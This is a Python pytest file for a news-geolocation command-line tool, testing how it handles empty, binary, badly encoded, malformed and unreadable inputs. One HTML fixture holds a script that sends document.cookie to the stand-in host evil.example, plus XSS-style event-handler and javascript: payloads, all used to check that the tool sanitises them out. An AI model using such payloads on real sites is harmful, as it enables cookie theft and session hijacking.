"""Hostile and broken input through the real command line (issue 7).

Every bad input is skipped with one ``warning:`` line naming the file (and
the line, for JSON Lines and CSV), the rest is processed, and the exit code
says what happened: 0 all read, 1 some skipped, 2 fatal (one ``error:``
line). Never a traceback. Most cases run in-process through click's runner,
as the other CLI tests do; permission cases run a real child process, as
root without the capabilities that let root read and write anything.
"""

from __future__ import annotations

import codecs
import csv
import json
import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from geostrikes.cli.main import cli

ROOT = Path(__file__).resolve().parents[2]
STRIKE = "Israeli jets struck a “fuel depot” worth €5m near Zürich on Monday, Swiss officials said."
# The same report in characters Latin-1 has.
LATIN1_STRIKE = "Israeli jets struck a fuel depot near Zürich on Monday, Swiss officials said."
GOOD = "A drone struck a depot near Baghdad on Monday, Iraqi officials said.\n"


def run(*args: object):
    result = CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)
    assert "Traceback" not in result.output
    return result


def lines(result, kind: str) -> list[str]:
    return [line for line in result.stderr.splitlines() if line.startswith(f"{kind}:")]


def mentions(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def places(*inputs: object, out: Path, extra: tuple = ()) -> tuple[object, list[dict]]:
    result = run("places", *inputs, "-o", out, "-q", *extra)
    return result, mentions(out) if out.exists() else []


def events(path: Path) -> list[dict]:
    return [f["properties"] for f in json.loads(path.read_text(encoding="utf-8"))["features"]]


def write(path: Path, data: bytes | str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
    return path


def assert_one_skip(result, where: Path | str, reason: str = "") -> None:
    """Exit 1 and exactly one warning, naming ``where``."""
    assert result.exit_code == 1, result.output
    warnings = lines(result, "warning")
    assert len(warnings) == 1, warnings
    assert warnings[0].startswith(f"warning: skipped {where}: ")
    assert reason in warnings[0]
    assert lines(result, "error") == []


@pytest.fixture
def folder(tmp_path):
    """An input folder holding one good article, and a separate output folder."""
    write(tmp_path / "in" / "good.txt", GOOD)
    (tmp_path / "out").mkdir()
    return tmp_path / "in"


def good_was_read(found: list[dict]) -> bool:
    return any(m["article_id"] == "good" and m["text"] == "Baghdad" for m in found)


# ------------------------------------------------------------ bad files


@pytest.mark.parametrize("name", ["empty.txt", "empty.html", "empty.jsonl", "empty.csv",
                                  "blank.txt"])
def test_empty_file_is_skipped_and_the_rest_read(folder, name):
    bad = write(folder / name, "  \n\n" if name == "blank.txt" else b"")
    result, found = places(folder, out=folder.parent / "out" / "p.jsonl")
    assert_one_skip(result, bad, "empty")
    assert good_was_read(found)


def test_binary_file_with_txt_extension_is_skipped(folder):
    bad = write(folder / "photo.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(32)) * 64)
    result, found = places(folder, out=folder.parent / "out" / "p.jsonl")
    assert_one_skip(result, bad, "binary file")
    assert good_was_read(found)


@pytest.mark.parametrize(
    ("codec", "bom", "text"),
    [
        ("utf-8", codecs.BOM_UTF8, STRIKE),
        ("utf-16-le", codecs.BOM_UTF16_LE, STRIKE),
        ("utf-16-be", codecs.BOM_UTF16_BE, STRIKE),
        ("latin-1", b"", LATIN1_STRIKE),
        ("cp1252", b"", STRIKE),
    ],
)
def test_encodings_are_decoded_right_to_the_output(tmp_path, codec, bom, text):
    article = write(tmp_path / "report.txt", bom + (text + "\r\n").encode(codec))
    result = run("extract", article, "-o", tmp_path / "e.geojson", "-q")
    assert result.exit_code == 0, result.output
    assert result.stderr == ""
    [event] = events(tmp_path / "e.geojson")
    assert event["quote"] == text
    assert event["location"] == "Zürich"
    result, found = places(article, out=tmp_path / "p.jsonl")
    assert "Zürich" in {m["text"] for m in found}


def test_html_declaring_windows_1252_is_decoded_right(tmp_path):
    page = ('<html><head><meta charset="windows-1252"><title>Raid</title></head>'
            f"<body><p>{STRIKE}</p></body></html>")
    article = write(tmp_path / "page.html", page.encode("cp1252"))
    result = run("extract", article, "-o", tmp_path / "e.geojson", "-q")
    assert result.exit_code == 0, result.output
    assert [e["quote"] for e in events(tmp_path / "e.geojson")] == [STRIKE]


def test_nul_bytes_are_dropped_and_the_text_read(tmp_path):
    data = STRIKE.encode().replace(b" near ", b" near\x00 ").replace(b"Monday", b"Mon\x00day")
    article = write(tmp_path / "nul.txt", data)
    result = run("extract", article, "-o", tmp_path / "e.geojson", "-q")
    assert result.exit_code == 0, result.output
    assert [e["quote"] for e in events(tmp_path / "e.geojson")] == [STRIKE]


def test_very_long_line_is_read_whole(tmp_path):
    filler = "The ministry spoke again about the talks. " * 5_000  # one 210,000-character line
    article = write(tmp_path / "long.txt", filler + GOOD)
    result, found = places(article, out=tmp_path / "p.jsonl")
    assert result.exit_code == 0, result.output
    baghdad = [m for m in found if m["text"] == "Baghdad"]
    assert [m["start"] for m in baghdad] == [len(filler) + GOOD.index("Baghdad")]


def test_article_over_max_chars_is_skipped_with_the_rest_read(folder):
    bad = write(folder / "huge.txt", GOOD * 30)
    result, found = places(folder, out=folder.parent / "out" / "p.jsonl",
                           extra=("--max-chars", 1000))
    assert_one_skip(result, bad, "longer than the cap of 1,000 characters")
    assert good_was_read(found)


def test_jsonl_line_over_max_chars_is_skipped_naming_its_line(tmp_path):
    feed = write(tmp_path / "feed.jsonl", "\n".join(
        json.dumps({"id": i, "text": text}) for i, text in enumerate([GOOD * 30, GOOD])))
    result = run("extract", feed, "-o", tmp_path / "e.geojson", "-q", "--max-chars", "1000")
    assert_one_skip(result, f"{feed}:1", "longer than the cap")
    assert [e["article_id"] for e in events(tmp_path / "e.geojson")] == ["1"]


@pytest.mark.parametrize("name", ["scan.pdf", "notes.docx", "README"])
def test_unknown_extension_is_skipped(folder, name):
    bad = write(folder / name, GOOD)
    result, found = places(folder, out=folder.parent / "out" / "p.jsonl")
    assert_one_skip(result, bad, "extension")
    assert good_was_read(found)


def test_symlink_loop_is_reported_once_and_the_rest_read(folder):
    write(folder / "sub" / "inner.txt", GOOD)
    (folder / "sub" / "loop").symlink_to(folder, target_is_directory=True)
    result, found = places(folder, out=folder.parent / "out" / "p.jsonl")
    assert_one_skip(result, folder / "sub" / "loop", "symbolic link loop")
    assert good_was_read(found)
    assert {m["article_id"] for m in found} == {"good", "inner"}


def test_broken_symlink_is_skipped(folder):
    (folder / "gone.txt").symlink_to(folder / "nowhere.txt")
    result, found = places(folder, out=folder.parent / "out" / "p.jsonl")
    assert_one_skip(result, folder / "gone.txt", "broken symbolic link")
    assert good_was_read(found)


# ---------------------------------------------------------- feeds, tables


def test_bad_jsonl_lines_are_skipped_one_warning_each(tmp_path):
    records = [
        {"id": "a", "text": GOOD},
        '{"id": "b", "text": "unterminated',
        {"id": "c", "title": "no text"},
        {"id": "d", "text": 42},
        {"id": "e", "text": GOOD, "title": ["not", "a", "string"]},
        {"id": "f", "text": GOOD, "published": "last Tuesday"},
        "[1, 2, 3]",
        {"id": "a", "text": "A drone struck Erbil on Monday, Kurdish officials said."},
        {"id": "g", "text": GOOD},
    ]
    feed = write(tmp_path / "feed.jsonl", "\n".join(
        r if isinstance(r, str) else json.dumps(r) for r in records) + "\n")
    result, found = places(feed, out=tmp_path / "p.jsonl")
    assert result.exit_code == 1, result.output
    warnings = lines(result, "warning")
    skipped = [w for w in warnings if w.startswith("warning: skipped ")]
    assert [w.split(": ")[1].removeprefix("skipped ") for w in skipped] == [
        f"{feed}:{n}" for n in (2, 3, 4, 5, 6, 7)]
    assert [w for w in warnings if w not in skipped] == [
        f"warning: duplicate article id 'a' at {feed}:8: renamed 'a#2'"]
    assert {m["article_id"] for m in found} == {"a", "a#2", "g"}


def test_ragged_csv_rows_are_skipped_naming_their_lines(tmp_path):
    table = tmp_path / "batch.csv"
    with table.open("w", newline="", encoding="utf-8") as stream:
        csv.writer(stream).writerows([
            ["id", "text", "title"],
            ["a", GOOD.strip(), "ok"],
            ["b", GOOD.strip(), "too", "many"],
            ["c", GOOD.strip()],
            ["d", "A drone struck Erbil on Monday, Kurdish officials said.", "ok"],
        ])
    result, found = places(table, out=tmp_path / "p.jsonl")
    assert result.exit_code == 1, result.output
    warnings = lines(result, "warning")
    assert [w.split(": ")[1] for w in warnings] == [f"skipped {table}:3", f"skipped {table}:4"]
    assert {m["article_id"] for m in found} == {"a", "d"}


def test_sidecar_row_naming_a_missing_file_is_one_warning(folder):
    sidecar = folder / "articles.csv"
    sidecar.write_text("article_id,title,published\ngood,Good news,2024-01-02\n"
                       "missing,Nowhere,2024-01-03\n", encoding="utf-8")
    result = run("extract", folder, "-o", folder.parent / "out" / "e.geojson", "-q")
    assert_one_skip(result, f"{sidecar}:3", "names no file")
    [event] = events(folder.parent / "out" / "e.geojson")
    assert event["article_id"] == "good"


def test_html_scripts_iframes_and_handlers_never_reach_the_output(tmp_path):
    page = write(tmp_path / "page.html", f"""<!doctype html><html><head>
<title>Strike report</title>
<script>var target = "Zürich SCRIPT-TEXT"; fetch("https://evil.example/?" + document.cookie);</script>
<style>.x::after {{ content: "Köln STYLE-TEXT" }}</style></head><body>
<p onclick="alert('Orléans HANDLER-TEXT')">{GOOD}</p>
<img src="x.png" onerror="alert('Düsseldorf ONERROR-TEXT')">
<iframe src="javascript:alert('Tromsø')">Tromsø IFRAME-TEXT</iframe>
<svg onload="alert(1)"><script>document.write('Besançon SVG-TEXT')</script></svg>
<noscript>Genève NOSCRIPT-TEXT</noscript>
<p>Officials said they were investigating.</p>
</body></html>""")
    result, found = places(page, out=tmp_path / "p.jsonl")
    assert result.exit_code == 0, result.output
    assert [m["text"] for m in found] == ["Baghdad"]
    result = run("extract", page, "-o", tmp_path / "e.geojson", "-q")
    assert result.exit_code == 0, result.output
    for output in (tmp_path / "p.jsonl", tmp_path / "e.geojson"):
        written = output.read_text(encoding="utf-8")
        for leak in ("-TEXT", "alert", "onerror", "onclick", "javascript:", "<script", "cookie"):
            assert leak not in written, (output.name, leak)
    assert [e["location"] for e in events(tmp_path / "e.geojson")] == ["Baghdad"]


# ------------------------------------------------------------- outputs


@pytest.mark.parametrize("command", ["extract", "places", "map"])
def test_missing_output_folder_is_one_error_line(folder, command):
    result = run(command, folder, "-o", folder.parent / "no" / "such" / "out.json")
    assert result.exit_code == 2
    assert lines(result, "error") == [
        f"error: output folder {str(folder.parent / 'no' / 'such')!r} does not exist: "
        "create it first"]
    assert not (folder.parent / "no").exists()


def device_twin(tmp_path: Path, name: str, minor: int) -> Path:
    """/dev/NAME, or as root a twin of it in tmp_path, so no test can replace the real one."""
    if os.geteuid() != 0:
        if not (Path("/dev") / name).exists():
            pytest.skip(f"this system has no /dev/{name}")
        return Path("/dev") / name
    node = tmp_path / name
    os.mknod(node, 0o666 | stat.S_IFCHR, os.makedev(1, minor))
    return node


def test_full_disk_is_one_error_line_and_the_device_stays(folder):
    full = device_twin(folder.parent, "full", 7)
    result = run("extract", folder, "-o", full, "--format", "geojson")
    assert result.exit_code == 2
    assert lines(result, "error") == [f"error: cannot write {str(full)!r}: No space left on device"]
    assert stat.S_ISCHR(os.stat(full).st_mode)
    assert [p.name for p in folder.parent.iterdir() if ".tmp" in p.name] == []


@pytest.mark.parametrize("command", ["extract", "places", "map"])
def test_null_device_is_written_into_and_stays_a_device(folder, command):
    null = device_twin(folder.parent, "null", 3)
    extra = ("--format", "geojson") if command != "map" else ()
    result = run(command, folder, "-o", null, "-q", *extra)
    assert result.exit_code == 0, result.output
    assert stat.S_ISCHR(os.stat(null).st_mode)
    assert os.stat(null).st_rdev == os.makedev(1, 3)


# ---------------------------------------------- permissions, for real


def unprivileged() -> list[str]:
    """A prefix that runs a command without the right to ignore permissions."""
    if os.geteuid() != 0:
        return []
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        pytest.skip("running as root, which reads and writes any file, and util-linux's "
                    "setpriv is not installed to drop CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH")
    return [setpriv, "--inh-caps=-all", "--bounding-set=-all", "--"]


def run_unprivileged(*args: object) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(
        [str(ROOT), *filter(None, [os.environ.get("PYTHONPATH")])])}
    command = [*unprivileged(), sys.executable, "-m", "geostrikes", *map(str, args)]
    result = subprocess.run(command, env=env, capture_output=True, text=True, timeout=300)
    assert "Traceback" not in result.stderr
    return result


def stderr_lines(result: subprocess.CompletedProcess, kind: str) -> list[str]:
    return [line for line in result.stderr.splitlines() if line.startswith(f"{kind}:")]


def test_unreadable_file_and_folder_are_skipped_for_real(folder):
    locked_file = write(folder / "locked.txt", GOOD)
    locked_folder = folder / "locked"
    write(locked_folder / "inner.txt", GOOD)
    out = folder.parent / "out" / "p.jsonl"
    locked_file.chmod(0)
    locked_folder.chmod(0)
    try:
        result = run_unprivileged("places", folder, "-o", out, "-q")
    finally:
        locked_folder.chmod(0o755)
        locked_file.chmod(0o644)
    assert result.returncode == 1, result.stderr
    assert stderr_lines(result, "warning") == [
        f"warning: skipped {locked_folder}: cannot list folder: Permission denied",
        f"warning: skipped {locked_file}: cannot read: Permission denied",
    ]
    assert {m["article_id"] for m in mentions(out)} == {"good"}


def test_read_only_destination_is_refused_and_kept(folder):
    out = folder.parent / "out" / "e.geojson"
    out.write_text("earlier result", encoding="utf-8")
    out.chmod(0o444)
    result = run_unprivileged("extract", folder, "-o", out)
    assert result.returncode == 2
    assert stderr_lines(result, "error") == [
        f"error: {str(out)!r} is read-only: make it writable or choose another output"]
    assert out.read_text(encoding="utf-8") == "earlier result"


def test_read_only_folder_is_one_error_line(folder):
    out_folder = folder.parent / "out"
    out_folder.chmod(0o555)
    try:
        result = run_unprivileged("places", folder, "-o", out_folder / "p.jsonl")
    finally:
        out_folder.chmod(0o755)
    assert result.returncode == 2
    assert stderr_lines(result, "error") == [
        f"error: cannot write in {str(out_folder)!r}: Permission denied"]
    assert list(out_folder.iterdir()) == []


# ------------------------------------------------------------ exit codes


def test_exit_codes_say_what_happened(folder):
    out = folder.parent / "out" / "e.geojson"
    assert run("extract", folder, "-o", out, "-q").exit_code == 0
    write(folder / "empty.txt", b"")
    assert run("extract", folder, "-o", out, "-q").exit_code == 1
    fatal = run("extract", folder / "missing.txt", "-o", out, "-q")
    assert fatal.exit_code == 2
    assert len(lines(fatal, "error")) == 1 and lines(fatal, "warning") == []
